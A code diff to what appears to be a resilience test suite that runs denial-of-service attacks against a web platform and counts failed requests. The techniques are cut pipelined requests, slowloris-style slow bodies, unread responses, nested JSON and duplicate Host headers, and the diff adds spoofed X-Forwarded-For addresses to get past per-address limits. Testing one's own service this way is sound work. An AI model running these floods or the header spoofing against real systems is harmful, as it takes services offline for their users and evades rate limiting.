@@ -1,6 +1,6 @@
 import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
-import type { Attacked, Outcome } from "./client.ts";
+import { type Attacked, elsewhere, type Outcome } from "./client.ts";
 
 const PATIENCE_MS = 5000;
 
@@ -31,13 +31,16 @@ async function failing({ url }: Attacked, calls: number, path: string, expected:
   return statuses.filter((status) => status !== expected).length;
 }
 
-const VERIFY = "GET /api/users/verify-token HTTP/1.1\r\nHost: a\r\n\r\n";
+/** The first lines of a request from this address. */
+const head = (request: string, from: string) =>
+  `${request} HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\n`;
 
 /** Connections that are cut in the middle of pipelined calls, which took every place of the gateway for ever. */
 export async function cutPipelines(platform: Attacked): Promise<Outcome> {
   const [connections, calls] = [5, 110];
   const sockets = Array.from({ length: connections }, () => open(platform));
-  for (const socket of sockets) socket.write(VERIFY.repeat(calls));
+  const verify = `${head("GET /api/users/verify-token", elsewhere())}\r\n`;
+  for (const socket of sockets) socket.write(verify.repeat(calls));
   await pause(20);
   for (const socket of sockets) socket.destroy();
   await pause(200);
@@ -48,9 +51,10 @@ export async function cutPipelines(platform: Attacked): Promise<Outcome> {
 }
 
 /** Bodies of a byte now and then, which took every connection to a service. */
-export async function slowBodies(platform: Attacked): Promise<Outcome> {
+export async function slowBodies(platform: Attacked, isLong: boolean): Promise<Outcome> {
+  const from = elsewhere();
   const post = (path: string) =>
-    `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{`;
+    `${head(`POST ${path}`, from)}Content-Type: application/json\r\nContent-Length: 900\r\n\r\n{`;
   const paths = ["/api/users/login", "/api/contact"];
   const sockets = paths.flatMap((path) =>
     Array.from({ length: 130 }, () => {
@@ -59,30 +63,34 @@ export async function slowBodies(platform: Attacked): Promise<Outcome> {
       return socket;
     }),
   );
+  const living = () => sockets.filter((socket) => !socket.said().startsWith("HTTP/1.1 ")).length;
   let failed = 0;
-  for (let second = 0; second < 14; second++) {
+  for (let second = 0; second < 14 && (isLong || living() > 0); second++) {
     for (const socket of sockets) if (socket.writable) socket.write(" ");
     failed += await failing(platform, 5, "/users/alltutors", 200);
     failed += await failing(platform, 5, "/blogs", 200);
     await pause(1000);
   }
-  const living = sockets.filter((socket) => !socket.said().startsWith("HTTP/1.1 "));
+  const left = living();
   for (const socket of sockets) socket.destroy();
-  return { tried: sockets.length, fellThrough: failed + living.length };
+  return { tried: sockets.length, fellThrough: failed + left };
 }
 
+const EACH = 20;
+
 /** Answers that nobody reads: many behind each other on one connection, and large ones on many. */
-export async function unreadAnswers(platform: Attacked): Promise<Outcome> {
-  const list = "GET /api/users/alltutors?limit=50 HTTP/1.1\r\nHost: a\r\n\r\n";
-  const sockets = Array.from({ length: 100 }, () => open(platform).pause());
-  sockets.forEach((socket, n) => socket.write(n === 0 ? list.repeat(200) : list.repeat(20)));
+export async function unreadAnswers(platform: Attacked, isLong: boolean): Promise<Outcome> {
+  const list = `${head("GET /api/users/alltutors?limit=50", elsewhere())}\r\n`;
+  const [first, others] = [200, isLong ? 99 : 29];
+  const sockets = Array.from({ length: 1 + others }, () => open(platform).pause());
+  sockets.forEach((socket, n) => socket.write(list.repeat(n === 0 ? first : EACH)));
   let failed = 0;
-  for (let second = 0; second < 8; second++) {
+  for (let second = 0; second < (isLong ? 8 : 4); second++) {
     failed += await failing(platform, 10, "/users/alltutors", 200);
     await pause(1000);
   }
   for (const socket of sockets) socket.destroy();
-  return { tried: 200 + 99 * 20, fellThrough: failed };
+  return { tried: first + others * EACH, fellThrough: failed };
 }
 
 const nested = (depth: number) => `{"name":${"[".repeat(depth)}${"]".repeat(depth)}}`;
@@ -122,9 +130,9 @@ export async function twoHosts(platform: Attacked): Promise<Outcome> {
     pairs.map((hosts) => `GET ${path} HTTP/1.1\r\n${hosts}`),
   );
   const answers = await Promise.all(
-    requests.map(async (head) => {
+    requests.map(async (request) => {
       const socket = open(platform);
-      socket.write(`${head}\r\nConnection: close\r\n\r\n`);
+      socket.write(`${request}\r\nConnection: close\r\n\r\n`);
       await new Promise((closed) => socket.once("close", closed));
       return socket.said();
     }),
